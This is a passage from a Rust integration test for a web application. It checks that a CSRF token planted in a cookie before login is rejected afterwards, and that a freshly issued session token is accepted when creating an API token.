    jar.add_cookie_str(&format!("datalab_csrf={planted}; Path=/"), &site);
    let client = reqwest::Client::builder()
        .cookie_provider(jar.clone())
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let response = client
        .post(app.url("/user/login"))
        .form(&[("csrf_token", planted.as_str()), ("login", "ana"), ("password", common::PASSWORD)])
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 303);
    jar.add_cookie_str(&format!("datalab_csrf={planted}; Path=/"), &site);
    let response = client
        .post(app.url("/user/ana/tokens"))
        .form(&[("csrf_token", planted.as_str()), ("token_name", "forjado")])
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 403, "the planted token is refused");
    let session_token = app.csrf_token(&client).await;
    assert_ne!(session_token, planted);
    let response = client
        .post(app.url("/user/ana/tokens"))
        .form(&[("csrf_token", session_token.as_str()), ("token_name", "bueno")])
        .send()
        .await
        .unwrap();
    assert!(response.status().is_success() || response.status().is_redirection(), "{}", response.status());
    alive(&app).await;
}
